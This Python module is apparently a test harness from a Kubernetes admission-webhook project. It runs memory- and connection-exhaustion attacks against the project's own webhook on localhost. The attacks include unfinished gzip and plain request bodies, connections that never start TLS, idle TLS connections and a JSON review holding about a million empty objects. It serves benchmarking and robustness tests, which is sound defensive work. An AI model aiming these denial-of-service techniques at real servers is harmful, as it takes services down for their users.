"""The memory and lockout attacks on the webhook, as a peer with no credentials runs them.

Each attack keeps its connections in one state and opens a new one whenever
the server closes one, until stopped:
- gzip-bodies: 64 TLS requests, each a gzip body of a few KB (3 MiB
  inflated) that never ends;
- plain-bodies: 256 TLS requests, each 3 MiB of a plain body that never ends;
- no-tls: 600 TCP connections that never start TLS;
- idle-tls: 256 TLS connections that send nothing, each reopened every 3 s;
- tiny-objects: waves of 1, 2, ... 6 concurrent TLS requests to the mutating
  hook, each a whole review of 3.2 MB whose runtime's status holds about a
  million empty objects (`[{},{},...]`, some 25 times its size once decoded).
Run as a process of its own (so that its work does not slow the client that
measures), `python -m hack.attacks NAME --port P`, stopped with SIGTERM;
`legit_review` is what the API server does, on a fresh connection each time.
Used by the benchmark (hack/bench_attacks.py) and the tests
(tests/inprocess/webhook/test_attacks.py).
"""

import argparse
import asyncio
import contextlib
import gzip
import json
import signal
import ssl
import subprocess
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path

PATH = "/validate-trussiumruntime"
MUTATE_PATH = "/mutate-trussiumruntime"
INFLATED_BYTES = 3 * 1024 * 1024
PIECE_BYTES = 64 * 1024
TINY_OBJECTS_BYTES = 3_200_000
TINY_OBJECTS_WAVES = 6
REOPEN_PAUSE_SECONDS = 0.05
IDLE_REOPEN_SECONDS = 3.0
CONNECT_TIMEOUT_SECONDS = 10.0
# The API server's longest webhook timeout (timeoutSeconds: 30).
LEGIT_TIMEOUT_SECONDS = 30.0
REPO = Path(__file__).resolve().parents[1]


def _head(length: int, *extra: str, path: str = PATH) -> bytes:
    lines = [
        f"POST {path} HTTP/1.1",
        "Host: webhook",
        "Content-Type: application/json",
        f"Content-Length: {length}",
        *extra,
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def _client_tls() -> ssl.SSLContext:
    """Attackers need no trust: they never present or check a credential."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


async def _until_closed(reader: asyncio.StreamReader, seconds: float | None = None) -> None:
    with contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError):
        async with asyncio.timeout(seconds):
            while await reader.read(4096):
                pass


async def _open(
    port: int, tls: ssl.SSLContext | None
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    async with asyncio.timeout(CONNECT_TIMEOUT_SECONDS):
        return await asyncio.open_connection("127.0.0.1", port, ssl=tls)


async def _body_holder(port: int, head: bytes, body: bytes) -> None:
    """One request whose body stops one piece short of its declared length."""
    reader, writer = await _open(port, _client_tls())
    try:
        writer.write(head)
        for start in range(0, len(body), PIECE_BYTES):
            writer.write(body[start : start + PIECE_BYTES])
            await writer.drain()
        await _until_closed(reader)
    finally:
        writer.close()


def gzip_bodies() -> Callable[[int], Awaitable[None]]:
    compressed = gzip.compress(b" " * INFLATED_BYTES, compresslevel=9)
    head = _head(len(compressed) + 1024, "Content-Encoding: gzip")
    return lambda port: _body_holder(port, head, compressed)


def plain_bodies() -> Callable[[int], Awaitable[None]]:
    body = b" " * (INFLATED_BYTES - 1)
    head = _head(INFLATED_BYTES)
    return lambda port: _body_holder(port, head, body)


def tiny_objects_review(size: int = TINY_OBJECTS_BYTES) -> bytes:
    """A CREATE of a runtime whose status holds empty objects up to `size` bytes."""
    runtime = {
        "apiVersion": "runtime.trussium.io/v1alpha1",
        "kind": "TrussiumRuntime",
        "metadata": {"name": "tiny", "namespace": "bench"},
        "spec": {"image": {"repository": "r", "tag": "1"}, "provider": {"type": "openai"}},
        "status": {"conditions": "FILL"},
    }
    kind = {"group": "runtime.trussium.io", "version": "v1alpha1", "kind": "TrussiumRuntime"}
    review = {
        "apiVersion": "admission.k8s.io/v1",
        "kind": "AdmissionReview",
        "request": {"uid": "tiny", "kind": kind, "operation": "CREATE", "object": runtime},
    }
    head, tail = json.dumps(review, separators=(",", ":")).encode().split(b'"FILL"')
    count = (size - len(head) - len(tail) - 2) // 3 + 1
    return head + b"[" + b",".join([b"{}"] * count) + b"]" + tail


async def _review(port: int, head: bytes, body: bytes) -> None:
    """One whole request, its answer read to the end."""
    reader, writer = await _open(port, _client_tls())
    try:
        writer.write(head + body)
        await _until_closed(reader, LEGIT_TIMEOUT_SECONDS)
    finally:
        writer.close()


def tiny_objects() -> Callable[[int], Awaitable[None]]:
    body = tiny_objects_review()
    head = _head(len(body), "Connection: close", path=MUTATE_PATH)

    async def waves(port: int) -> None:
        for concurrent in range(1, TINY_OBJECTS_WAVES + 1):
            await asyncio.gather(*(_review(port, head, body) for _ in range(concurrent)))

    return waves


async def _no_tls(port: int) -> None:
    reader, writer = await _open(port, None)
    try:
        await _until_closed(reader)
    finally:
        writer.close()


async def _idle_tls(port: int) -> None:
    reader, writer = await _open(port, _client_tls())
    try:
        await _until_closed(reader, IDLE_REOPEN_SECONDS)
    finally:
        writer.close()


@dataclass(frozen=True)
class Attack:
    connections: int
    make: Callable[[], Callable[[int], Awaitable[None]]]


ATTACKS = {
    "gzip-bodies": Attack(64, gzip_bodies),
    "plain-bodies": Attack(256, plain_bodies),
    "no-tls": Attack(600, lambda: _no_tls),
    "idle-tls": Attack(256, lambda: _idle_tls),
    "tiny-objects": Attack(1, tiny_objects),
}


async def run(name: str, port: int, stop: asyncio.Event) -> None:
    attack = ATTACKS[name]
    connection = attack.make()

    async def keep_one() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError, ssl.SSLError, TimeoutError):
                await connection(port)
            await asyncio.sleep(REOPEN_PAUSE_SECONDS)

    tasks = [asyncio.create_task(keep_one()) for _ in range(attack.connections)]
    await stop.wait()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def start(name: str, port: int) -> subprocess.Popen[bytes]:
    """The attack in a process of its own, niced: on one machine with the server and
    the measuring client, its own work must not be what slows them (a real
    attacker's is elsewhere). Stop it with `stop`."""
    return subprocess.Popen(
        ["nice", "-n", "19", sys.executable, "-m", "hack.attacks", name, "--port", str(port)],
        cwd=REPO,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )


def stop(process: subprocess.Popen[bytes]) -> None:
    process.terminate()
    try:
        process.wait(10)
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait(10)


@dataclass(frozen=True)
class Answer:
    status: int  # 0: no answer (refused, closed, timed out)
    seconds: float


async def legit_review(port: int, ca_file: Path, body: bytes) -> Answer:
    """One review as the API server sends it, on a fresh, verified TLS connection."""
    context = ssl.create_default_context(cafile=str(ca_file))
    started = time.perf_counter()
    try:
        async with asyncio.timeout(LEGIT_TIMEOUT_SECONDS):
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", port, ssl=context, server_hostname="127.0.0.1"
            )
            try:
                writer.write(_head(len(body)) + body)
                head = await reader.readuntil(b"\r\n\r\n")
                length = next(
                    int(line.split(b":")[1])
                    for line in head.split(b"\r\n")
                    if line.lower().startswith(b"content-length")
                )
                answer = json.loads(await reader.readexactly(length))
                status = int(head.split(b" ")[1])
                if status == 200 and not answer["response"]["allowed"]:
                    status = -1
            finally:
                writer.close()
    except (OSError, ssl.SSLError, TimeoutError, asyncio.IncompleteReadError, ValueError):
        status = 0
    return Answer(status, time.perf_counter() - started)


def rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise RuntimeError("no VmRSS")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    args = parser.parse_args()

    async def until_terminated() -> None:
        stopping = asyncio.Event()
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stopping.set)
        await run(args.name, args.port, stopping)

    asyncio.run(until_terminated())


if __name__ == "__main__":
    main()
